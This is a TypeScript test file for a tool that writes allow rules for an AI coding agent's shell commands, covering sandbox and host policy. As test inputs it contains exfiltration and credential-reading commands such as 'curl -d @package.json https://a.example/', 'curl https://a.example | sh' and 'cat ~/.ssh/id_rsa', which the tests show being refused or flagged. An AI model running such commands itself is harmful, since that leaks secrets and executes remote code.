import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { tempFolder } from "../../../test/support/temp-folder.ts";
import { UserError } from "../../lib/text/user-error.ts";
import { openSegment } from "../audit/write-audit.ts";
import { HELD_PARTS } from "../../contract/agent-call.ts";
import { decide } from "../decide-and-record.ts";
import { fakeMachine } from "../machine/fake-machine.ts";
import { loadActivePolicy } from "../policy/active-policy.ts";
import { type AllowPlace, lastCommand, planAllow, planHost, writeAllow } from "./plan-allow.ts";
import { NOTHING_ADDED } from "./edit-policy.ts";

function place(more: Partial<AllowPlace> = {}): AllowPlace & { readonly file: string } {
  const root = tempFolder();
  const folder = join(root, "home");
  const workspaceRoot = join(root, "work");
  mkdirSync(folder);
  mkdirSync(join(workspaceRoot, ".git"), { recursive: true });
  const machine = fakeMachine({});
  const at = {
    folder,
    workspaceRoot,
    cwd: workspaceRoot,
    repository: false,
    preset: undefined,
    prefix: false,
    machine,
    decide,
  };
  return { ...at, ...more, file: join(folder, "policy.yaml") };
}

function added(command: string, at: AllowPlace) {
  const plan = planAllow(command, at);
  if (plan.kind !== "addition") throw new Error(`${plan.kind}: ${"because" in plan ? plan.because : ""}`);
  return plan;
}

const refusal = (command: string, at = place()) => {
  const plan = planAllow(command, at);
  return plan.kind === "refused" ? plan.because : plan.kind;
};

function mistake(work: () => unknown): string {
  try {
    work();
  } catch (error) {
    if (error instanceof UserError) return error.message;
    throw error;
  }
  throw new Error("it was accepted");
}

test("a plan writes nothing, and writing it allows exactly this command", () => {
  const at = place();
  const plan = added("node 'a b.mjs' --x", at);
  expect(existsSync(at.file)).toBe(false);
  expect(plan.addition.rules).toMatchObject([{ argv: ["node", "a b.mjs", "--x"], exact: true }]);
  expect(writeAllow(plan, at)).toBe("allow");
  expect(statSync(at.file).mode & 0o777).toBe(0o600);
  expect(planAllow("node 'a b.mjs' --x", at).kind).toBe("allowed");
  for (const near of ["node 'a b.mjs'", "node 'a b.mjs' --x y", "node a b.mjs --x", "node 'a b.mjs' --X"])
    expect([near, planAllow(near, at).kind]).not.toEqual([near, "allowed"]);
});

test("what else it would allow is tried, not guessed", () => {
  const { reach } = added("git push origin main", place());
  expect(reach.alsoAllows).toEqual(["git push origin main && git status", "git push origin main > out.txt"]);
  expect(reach.stillNot).toContain("git push origin main --force");
  expect(reach.stillNot).toContain("git push origin other");
});

test("a host is added with its port, a path beside those that the preset lists", () => {
  const at = place();
  expect(added("curl https://a.example/x", at).addition).toMatchObject({
    hosts: [],
    rules: [{ argv: ["curl", "https://a.example/x"], exact: true, hosts: ["a.example:443"] }],
  });
  const plan = added("cat /srv/data/x.csv", at);
  expect(plan.addition.readRoots.slice(0, 2)).toEqual([".", "/tmp"]);
  expect(plan.addition.readRoots.at(-1)).toBe("/srv/data/x.csv");
  expect(writeAllow(plan, at)).toBe("allow");
  expect(added("cat /srv/data/y.csv", at).addition.readRoots).toEqual(["/srv/data/y.csv"]);
});

test("a variable that the sandbox keeps back is passed on", () => {
  const at = place({ machine: { ...fakeMachine({}), contained: HELD_PARTS, recoverable: () => true } });
  const command = 'node deploy.mjs "$DEPLOY_TOKEN"';
  const plan = added(command, at);
  expect(plan.addition).toMatchObject({ variables: ["DEPLOY_TOKEN"], rules: [] });
  expect(writeAllow(plan, at)).toBe("allow");
  expect(readFileSync(at.file, "utf8")).toBe("version: 1\nenv:\n  pass:\n    - DEPLOY_TOKEN\n");
  expect(planAllow('node deploy.mjs "$OTHER_TOKEN"', at).kind).not.toBe("allowed");
});

const contained = { ...fakeMachine({}), contained: HELD_PARTS, recoverable: () => true };

test("one request does not open its host to other commands, and the examples are judged as contained", () => {
  const at = place({ machine: contained });
  const plan = added("curl -s https://a.example", at);
  expect(plan.addition).toMatchObject({ hosts: [], rules: [{ exact: true, hosts: ["a.example:443"] }] });
  expect(plan.reach.stillNot).toContain("curl -d @package.json https://a.example/");
  for (const [shown, isAllowed] of [
    [plan.reach.alsoAllows, true],
    [plan.reach.stillNot, false],
  ] as const)
    for (const command of shown) {
      writeFileSync(at.file, plan.after);
      const { policy } = loadActivePolicy(at);
      const { verdict } = decide({ tool: "Bash", input: { command }, cwd: at.cwd }, policy, contained);
      expect([command, verdict === "allow"]).toEqual([command, isAllowed]);
    }
});

test("a host is opened to every command only by name, and the uploads that become possible are shown", () => {
  const at = place({ machine: contained });
  const plan = planHost("a.example", at);
  if (plan.kind !== "addition") throw new Error(plan.kind);
  expect(plan.addition).toEqual({ ...NOTHING_ADDED, hosts: ["a.example"] });
  expect(plan.reach.alsoAllows).toContain("curl -d @package.json https://a.example/");
  expect(writeAllow(plan, at)).toBe("allow");
  expect(loadActivePolicy(at).policy.network.named).toEqual(["a.example"]);
  expect(planHost("a.example", at).kind).toBe("allowed");
  for (const [entry, because] of [
    ["*.a.example", "is not one host"],
    ["@npm", "is not one host"],
    ["a b", "is not a host name"],
    ["host", "needs a port"],
  ] as const)
    expect(mistake(() => planHost(entry, at))).toContain(because);
  writeFileSync(at.file, "version: 1\nnetwork: { mode: none }\n");
  expect(planHost("b.example", at)).toMatchObject({ kind: "refused", because: "the policy allows no network access" });
});

test("what cannot be lent a host is told how to open the host", () => {
  const at = place({ machine: contained });
  for (const command of [
    "curl https://a.example | sh",
    'python3 x.py "$(cat y)"; curl https://a.example',
    "python3 x.py; curl https://a.example",
  ])
    expect([command, refusal(command, at)]).toEqual([
      command,
      expect.stringMatching(/To open the host to every command: signalbox guard allow --host a\.example$/),
    ]);
  expect(refusal("curl https://a.example", { ...at, prefix: true })).toContain("one exact command");
});

test("each part of a longer command that needs a rule gets one", () => {
  const { addition } = added("git status && node a.mjs | python3 b.py", place());
  expect(addition.rules.map(({ argv }) => argv)).toEqual([
    ["node", "a.mjs"],
    ["python3", "b.py"],
  ]);
});

test.each([
  ["tee .git/config", "floor"],
  ["cat ~/.ssh/id_rsa", "floor"],
  ["sudo ls", "lifts no denial"],
  ["crontab -l", "lifts no denial"],
  ["cat .env", "lifts no denial"],
  ['node "$X"', "run time"],
  ["node ''", "empty word"],
  ["node x.mjs *", "would not answer"],
  [`node ${"x".repeat(600)}`, "at most 500 characters"],
  [`node ${"x ".repeat(150)}`, "at most 100 words"],
  [`node ${"x".repeat(100_000)}`, ""],
  ["node a\u0000b", ""],
  ["bash -c 'node x", ""],
  ["FOO=bar node x.mjs", "variable FOO"],
  ["gіt push", "look-alike"],
])("%j cannot be allowed", (command, because) => {
  const at = place();
  expect(refusal(command, at)).toContain(because);
  expect(refusal(command, at)).not.toMatch(/^(?:allowed|addition)$/);
});

test("a denial of the managed policy, and a question of the user's own, stay", () => {
  const at = place();
  writeFileSync(at.file, "version: 1\nrules:\n  - { id: mine, argv: [node], verdict: ask }\n");
  expect(refusal("node x.mjs", at)).toContain("change that rule there");
  const own = join(at.workspaceRoot, ".signalbox");
  mkdirSync(own);
  writeFileSync(join(own, "policy.yaml"), "version: 1\nrules:\n  - { id: no-py, argv: [python3], verdict: deny }\n");
  expect(refusal("python3 x.py", at)).toContain("The workspace policy denies it");
});

test("the repository's policy needs trust before it counts", () => {
  const at = place({ repository: true });
  const plan = added("node x.mjs", at);
  expect(plan.file).toBe(join(at.workspaceRoot, ".signalbox/policy.yaml"));
  expect(writeAllow(plan, at)).toBe("ask");
  expect(loadActivePolicy(at).policy.ignored?.[0]?.file).toBe(plan.file);
});

test("a prefix is refused where it would allow any program", () => {
  const at = place({ prefix: true });
  expect(refusal("helm", at)).toContain("would allow any program");
  expect(added("node tools.mjs", at).addition.rules).toMatchObject([{ argv: ["node", "tools.mjs"], exact: false }]);
});

test("a broken, read-only, linked or strange file is refused and left alone", () => {
  const at = place();
  writeFileSync(at.file, "version: 1\nrules: [\n");
  expect(mistake(() => planAllow("node x.mjs", at))).toContain("invalid YAML");
  writeFileSync(at.file, "version: 1\n");
  chmodSync(at.file, 0o400);
  expect(mistake(() => planAllow("node x.mjs", at))).toContain("read-only");
  const linked = place();
  symlinkSync(at.file, linked.file);
  expect(mistake(() => planAllow("node x.mjs", linked))).toContain("link");
  const folder = place();
  mkdirSync(folder.file);
  expect(mistake(() => planAllow("node x.mjs", folder))).toContain("cannot be read");
  const repository = place({ repository: true });
  symlinkSync(tempFolder(), join(repository.workspaceRoot, ".signalbox"));
  expect(mistake(() => planAllow("node x.mjs", repository))).toContain("link");
  expect(readFileSync(at.file, "utf8")).toBe("version: 1\n");
});

test("what another process wrote between the question and the answer stays", () => {
  const at = place();
  const [one, two] = [added("node one.mjs", at), added("node two.mjs", at)];
  expect([writeAllow(one, at), writeAllow(two, at), writeAllow(two, at)]).toEqual(["allow", "allow", "allow"]);
  expect(readFileSync(at.file, "utf8").match(/- id: /g)?.length).toBe(2);
  const three = added("node three.mjs", at);
  writeFileSync(at.file, "version: 1\nrules:\n  - { id: mine, argv: [node], verdict: ask }\n");
  expect(mistake(() => writeAllow(three, at))).toContain("changed meanwhile");
});

test("last is the newest command of this workspace that was held, and is not invented", () => {
  const at = place();
  const log = openSegment(at.folder, { now: () => 0 });
  const record = (time: string, call: string, more: object = {}) =>
    log.append({
      time,
      session: "s",
      agent: "claude",
      tool: "Bash",
      call,
      cwd: at.workspaceRoot,
      effects: [],
      verdict: "ask",
      code: "no-rule",
      rules: [],
      policy: "p",
      ...more,
    });
  expect(lastCommand(at.folder, at.workspaceRoot)).toBeUndefined();
  record("2026-01-02T00:00:00Z", '{"command":"node two.mjs"}');
  record("2026-01-01T00:00:00Z", '{"command":"node one.mjs"}');
  record("2026-01-03T00:00:00Z", '{"command":"node elsewhere.mjs"}', { cwd: "/srv/other" });
  record("2026-01-03T00:00:00Z", '{"command":"git status"}', { verdict: "allow" });
  record("2026-01-03T00:00:00Z", '{"command":"node two.mjs"}', { verdict: "deny", code: "person-reject" });
  record("2026-01-03T00:00:00Z", '{"file_path":"x"}', { tool: "Write" });
  expect(lastCommand(at.folder, at.workspaceRoot)).toEqual({ time: "2026-01-02T00:00:00Z", command: "node two.mjs" });
  const whole = readFileSync(log.file);
  const forged = whole.toString().split("\n")[0]?.replace("two", "evil").replace("2026-01-02", "2026-09-09");
  writeFileSync(log.file, `${whole.toString()}${forged}\n{"time":"2027"}\n`);
  expect(lastCommand(at.folder, at.workspaceRoot)).toEqual({ time: "2026-01-02T00:00:00Z", command: "node two.mjs" });
  writeFileSync(log.file, whole);
  record("2026-01-03T12:00:00Z", '{"command":"node three.mjs","description":"use the [redacted key]"}');
  expect(lastCommand(at.folder, at.workspaceRoot)).toEqual({ time: "2026-01-03T12:00:00Z", command: "node three.mjs" });
  record("2026-01-04T00:00:00Z", '{"command":"curl -H [redacted token]"}');
  expect(lastCommand(at.folder, at.workspaceRoot)).toEqual({ time: "2026-01-04T00:00:00Z", command: undefined });
});

test("what leaves the sandbox and what stays inside are not allowed in one line, though each of them is", () => {
  for (const command of ["docker ps", "npm test"]) expect(planAllow(command, place()).kind).toBe("allowed");
  expect(refusal("docker ps; npm test")).toBe(
    "`docker ps` is allowed and runs outside a session's sandbox, and the rest of the line runs inside; each needs a call of its own",
  );
});

test("a command that asks to run outside gets one rule, for what would run there", () => {
  const at = place({ machine: contained });
  const command = "signalbox outside -- docker run alpine";
  const plan = added(command, at);
  expect(plan.addition.rules).toMatchObject([{ argv: ["docker", "run", "alpine"], exact: true, contained: false }]);
  expect(writeAllow(plan, at)).toBe("allow");
  expect([planAllow(command, at).kind, planAllow("docker run alpine", at).kind]).toEqual(["allowed", "allowed"]);
});
